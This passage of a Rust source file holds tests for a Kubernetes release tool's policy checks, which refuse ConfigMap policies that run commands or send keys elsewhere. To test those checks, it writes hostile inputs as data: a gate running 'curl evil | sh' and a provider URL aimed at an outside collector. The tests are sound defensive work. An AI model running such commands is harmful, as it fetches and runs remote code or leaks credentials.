            found.push("analysis.newrelic reads its key from another variable".to_string());
        }
    }
    if let Some(c) = &policy.analysis.cloudwatch
        && c.url != cloudwatch_endpoint(&c.region)
    {
        found.push("analysis.cloudwatch signs requests to a `url` of its own".to_string());
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Review: the policy of a GitOps release comes from a ConfigMap anyone with
    /// write access to the namespace can edit, and was run with a deployer's rights:
    /// a gate could run any program inside rampart's pod.
    #[test]
    fn a_configmap_policy_that_runs_programs_on_the_server_is_refused() {
        let base = include_str!("../../../examples/kubernetes.yaml");
        let plain = Policy::from_yaml(base).unwrap();
        assert!(runs_on_the_server(&plain).is_empty());
        let gate =
            base.to_string() + "gates: {pre: [{name: own, command: [sh, -c, 'curl evil | sh']}]}\n";
        let p = Policy::from_yaml(&gate).unwrap();
        assert_eq!(runs_on_the_server(&p), ["gates.pre[0] runs a command"]);
        let hook = base.to_string() + "notify: [{command: [sh, -c, id], on: [done]}]\n";
        let p = Policy::from_yaml(&hook).unwrap();
        assert_eq!(runs_on_the_server(&p), ["notify[0] runs a command"]);
    }

    /// Review: the checks after the switch, and the providers' keys sent to an address
    /// the policy names, escaped the check above.
    #[test]
    fn a_configmap_policy_that_sends_the_servers_keys_elsewhere_is_refused() {
        let base = include_str!("../../../examples/kubernetes.yaml");
        let with = |extra: &str| Policy::from_yaml(&(base.to_string() + extra)).unwrap();
        let p = with("post_release: {checks: [{name: own, command: [id]}]}\n");
        assert_eq!(
            runs_on_the_server(&p),
            ["post_release.checks[0] runs a command"]
        );
        let relic = base.replace(
            "analysis:\n",
            "analysis:\n  newrelic: {account_id: 7, url: \"https://collector.example\"}\n",
        );
        let p = Policy::from_yaml(&relic).unwrap();
        assert_eq!(
            runs_on_the_server(&p),
            ["analysis.newrelic sends its key to a `url` of its own"]
        );
        let relic = base.replace(
            "analysis:\n",
            "analysis:\n  newrelic: {account_id: 7, region: eu}\n",
        );
        assert!(runs_on_the_server(&Policy::from_yaml(&relic).unwrap()).is_empty());
    }

    /// Review: the policy's kubeconfig context was ignored under `serve --kubernetes`,
    /// so a policy naming another cluster was released on the watched one.
    #[test]
    fn a_configmap_policy_naming_a_kubeconfig_context_is_refused() {
        let base = include_str!("../../../examples/kubernetes.yaml");
        let plain = Policy::from_yaml(base).unwrap();
        let (deploy, _) = plain.kubernetes().unwrap();
        let d = deployment(
            json!({"spec": {"containers": [{"name": deploy.container, "image": "registry.example.com/checkout:v1"}]}}),
            json!({}),
        );
        let (ns, name) = (deploy.namespace.clone(), deploy.deployment.clone());
        let ok = check_policy(base, &ns, &name, &d, "0123456789abcdef");
        assert!(ok.is_ok(), "{ok:?}");
        let text = base.replacen(
            &format!("deployment: {name}"),
            &format!("deployment: {name}\n    context: prod-eu"),
            1,
        );
        assert_ne!(text, base);
        let refused = check_policy(&text, &ns, &name, &d, "0123456789abcdef");
        assert!(
            matches!(&refused, Err(why) if why.contains("context") && why.contains("prod-eu")),
            "{refused:?}"
        );
    }

    fn deployment(template: Value, annotations: Value) -> Deployment {
        serde_json::from_value(json!({
            "metadata": {"name": "checkout", "namespace": "shop", "annotations": annotations},
            "spec": {"selector": {"matchLabels": {"app": "checkout"}}, "template": template},
        }))
        .unwrap_or_default()
    }

    #[test]
    fn a_revision_is_the_template_whatever_the_order_of_its_keys() {
        let a = deployment(
            json!({"metadata": {"labels": {"a": "1", "b": "2"}},
                   "spec": {"containers": [{"name": "app", "image": "x:1"}]}}),
            json!({}),
        );
        let b = deployment(
            json!({"spec": {"containers": [{"image": "x:1", "name": "app"}]},
                   "metadata": {"labels": {"b": "2", "a": "1"}}}),
            json!({"rampart.dev/phase": "released"}),
        );
        let c = deployment(
            json!({"metadata": {"labels": {"a": "1", "b": "2"}},
                   "spec": {"containers": [{"name": "app", "image": "x:2"}]}}),
            json!({}),
        );
        assert_eq!(revision(&a), revision(&b));
        assert_ne!(revision(&a), revision(&c));
        assert_eq!(revision(&a).len(), 16);
    }

    #[test]
    fn the_gitops_patch_states_every_owned_field_and_never_the_opt_in() {
        let d = deployment(
            json!({}),
            json!({"rampart.dev/policy": "checkout-policy", "rampart.dev/phase": "waiting",
                   "rampart.dev/released-revision": "r1", "other": "x"}),
        );
        let mut d = d;
        d.metadata.resource_version = Some("17".into());
        let body = gitops_patch(&d, true, &[(PHASE, "progressing"), (RELEASED_REVISION, "")]);
        assert_eq!(body["spec"], json!({"paused": true}));
        // Conditional on the state it was decided on.
        assert_eq!(body["metadata"]["resourceVersion"], json!("17"));
        // Git's annotations (the opt-in among them) are not rampart's to state.
        assert_eq!(
            body["metadata"]["annotations"],
            json!({"rampart.dev/phase": "progressing"})
        );
    }

    #[test]
    fn a_paused_deployment_serves_from_its_running_pods() {
        let mut d = deployment(json!({}), json!({}));
        d.metadata.generation = Some(2);
        d.status = serde_json::from_value(json!({"observedGeneration": 2, "replicas": 1,
            "updatedReplicas": 0, "availableReplicas": 1}))
        .ok();
        assert_eq!(serving(&d), Readiness::Ready);
        assert!(matches!(objects::readiness(&d), Readiness::Waiting(_)));
    }

    /// Review: whether every pod runs the template is read from the status counts,
    /// not from readiness (an HPA's new pods are on it before they are ready), and a
    /// `Recreate` rollout's moment with no pod at all is not "on the template".
    #[test]
    fn pods_on_the_template_are_read_from_updated_replicas() {
        let on = |want: i64, total: i64, updated: i64| {
            let mut d = deployment(json!({}), json!({}));
            d.metadata.generation = Some(3);
            if let Some(spec) = d.spec.as_mut() {
                spec.replicas = i32::try_from(want).ok();
            }
            d.status = serde_json::from_value(json!({"observedGeneration": 3,
                "replicas": total, "updatedReplicas": updated, "availableReplicas": 0}))
            .ok();
            objects::on_template(&d)
        };
        assert!(
            on(4, 2, 2),
            "an HPA scaled 2 to 4: the new pods are not counted yet"
        );
        assert!(on(4, 4, 4), "the new pods, on the template, not ready yet");
        assert!(!on(2, 2, 0), "paused with a template not rolled out");
        assert!(!on(2, 3, 2), "an old pod left: two templates");
        assert!(
            !on(2, 0, 0),
            "a Recreate rollout between the old pods and the new"
        );
        assert!(on(0, 0, 0), "scaled to zero");
    }
}
